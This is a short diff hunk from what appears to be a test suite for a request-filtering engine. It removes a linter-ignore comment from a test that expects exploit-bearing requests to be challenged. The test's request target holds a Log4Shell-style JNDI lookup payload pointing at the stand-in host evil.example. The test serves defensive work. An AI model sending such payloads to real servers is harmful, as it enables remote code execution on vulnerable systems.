@@ -190,7 +190,6 @@ test('a page that makes its visitors ask for an exploit gets them challenged, no
   ] as const) {
     const exchange = engine.open({
       method: 'GET',
-      // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
       target: '/?x=${jndi:ldap://evil.example/a}',
       headers: ['Host', 'h', ...headers],
       peer,
